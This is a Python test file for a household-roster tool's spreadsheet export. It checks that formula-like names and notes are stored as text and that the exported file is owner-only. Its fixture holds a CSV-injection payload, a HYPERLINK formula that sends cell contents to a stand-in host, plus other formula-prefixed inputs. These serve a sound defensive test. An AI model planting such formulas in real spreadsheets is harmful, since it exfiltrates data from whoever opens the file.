"""The ledger never carries a live formula: names and notes typed by people stay text."""

from __future__ import annotations

import re
import stat
import zipfile
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker

from bot.cli import main
from storage.roster import import_roster
from tests.small_town import at, green_checkin

INJECTED_HEAD = '=HYPERLINK("http://example.invalid/?d="&A1,"点我")'
NOTES = ["=1+1", "+SUM(A1:A2)", "-2+3", "@cmd", "\tx", "\rx"]


@pytest.fixture
def hostile_roster(session_factory: sessionmaker[Session], tmp_path: Path) -> None:
    households = tmp_path / "households.csv"
    lines = [
        "乡镇,村,户编号,户主姓名,身份证号,家庭人口,监测类型,上年人均纯收入,帮扶责任人,帮扶责任人电话"
    ]
    head = INJECTED_HEAD.replace('"', '""')
    lines.append(f'龙溪镇,青山村,H1,"{head}",,3,脱贫不稳定户,7000,甲,13800000001')
    for i, _ in enumerate(NOTES, start=2):
        lines.append(f"龙溪镇,青山村,H{i},李春花,,2,边缘易致贫户,7000,甲,13800000001")
    households.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with session_factory() as s, s.begin():
        import_roster(s, [households], now=at("2026-11-01T08:00"), actor="test")
    green_checkin(session_factory, "H1", at("2026-11-24T10:00"), note="=A1*2")
    for i, note in enumerate(NOTES, start=2):
        green_checkin(session_factory, f"H{i}", at("2026-11-24T10:00"), note=note)


def test_export_writes_formula_like_text_as_text(
    env_database: str, hostile_roster: None, tmp_path: Path
) -> None:
    target = tmp_path / "ledger.xlsx"
    assert main(["export", "-o", str(target), "--week", "2026-W48"]) == 0
    with zipfile.ZipFile(target) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = {n: book.read(n).decode() for n in sheets}
    assert len(sheets) >= 2
    for name, body in xml.items():
        assert "<f>" not in body and "<f " not in body, name
    everything = "".join(xml.values())
    assert "HYPERLINK(" in everything  # the name is there, as text
    for note in ("=A1*2", "+SUM(A1:A2)", "-2+3", "@cmd"):
        assert re.search(rf"<t[^>]*>{re.escape(note)}</t>", everything), note
    # The file is the owner's only, as backups are.
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
